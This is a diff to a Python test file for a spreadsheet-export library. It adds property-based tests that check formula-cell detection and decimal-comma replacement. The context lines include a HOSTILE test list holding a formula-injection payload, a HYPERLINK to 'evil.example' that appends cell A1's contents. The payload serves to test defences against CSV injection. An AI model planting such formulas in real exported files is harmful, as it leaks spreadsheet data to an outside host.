@@ -10,11 +10,13 @@ from pathlib import Path
 import openpyxl
 import pandas as pd
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from conftest import X0, Y0, read_rows, square, write_csv, write_regions
 from vbr.locale import t
 from vbr.writers.lists import excel_table
-from vbr.writers.text import looks_like_formula
+from vbr.writers.text import looks_like_formula, may_hold_formulas, replace_in_all
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"klik")',
@@ -136,3 +138,18 @@ def test_excel_table_gives_numeric_columns_a_decimal_comma_and_no_quote():
     table = pd.DataFrame({"eur_per_kg": ["-0.5", "12"], "note": ["-0.5", "-x"]})
     got = excel_table(table, numeric=["eur_per_kg"])
     assert got.to_dict("list") == {"eur_per_kg": ["-0,5", "12"], "note": ["-0.5", "'-x"]}
+
+
+_CELLS = st.lists(st.text(alphabet="=+-@\t\r\x00.,;a1 '", max_size=6), max_size=12)
+
+
+@given(_CELLS)
+def test_a_column_passed_over_as_formula_free_has_no_formula_cell(cells):
+    # the one-pass check may say "maybe" too often, never "no" where a cell starts a formula
+    if not may_hold_formulas(cells):
+        assert not looks_like_formula(pd.Series(cells, dtype=object)).any()
+
+
+@given(_CELLS)
+def test_replacing_in_the_joined_column_equals_replacing_cell_by_cell(cells):
+    assert replace_in_all(cells, ".", ",") == [c.replace(".", ",") for c in cells]
